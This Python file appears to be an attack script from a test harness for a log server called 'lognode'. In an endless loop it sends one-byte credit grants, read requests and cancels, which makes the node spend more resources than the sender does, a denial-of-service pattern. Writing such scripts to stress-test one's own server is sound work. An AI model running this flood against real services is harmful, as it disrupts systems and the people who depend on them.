"""Ask for a follow with a credit of one byte, grant a byte at a time, ask and cancel in between.

Nothing is read. Every frame is small and costs the node more than it costs the sender.
"""

import argparse

from attack import Line, arguments, main, range_of

from lognode.client.protocol import frame, frames
from lognode.client.protocol.reads import FOLLOW, LATEST

_ROUNDS_A_WRITE = 512
_FOLLOW_ID = 1 << 40


async def attack(line: Line, options: argparse.Namespace) -> None:
    """One connection, until the program ends."""
    asked = await range_of(line, options.log)
    follow = {**asked, "keys": None, "prefix": b"", "start_key": b"", "end_key": None,
              "from_seq": 1, "credit": 1}  # fmt: skip
    await line.say(FOLLOW.number, follow, _FOLLOW_ID)
    latest = {**asked, "key": options.key.encode()}
    first = 1
    while True:
        sent = []
        for request_id in range(first, first + _ROUNDS_A_WRITE):
            sent.append(frame.encode(_FOLLOW_ID, frames.CREDIT, {"bytes": 1}))
            sent.append(frame.encode(request_id, LATEST.number, latest))
            sent.append(frame.encode(request_id, frames.CANCEL, {}))
        first += _ROUNDS_A_WRITE
        await line.write(b"".join(sent))


if __name__ == "__main__":
    main(attack, arguments())
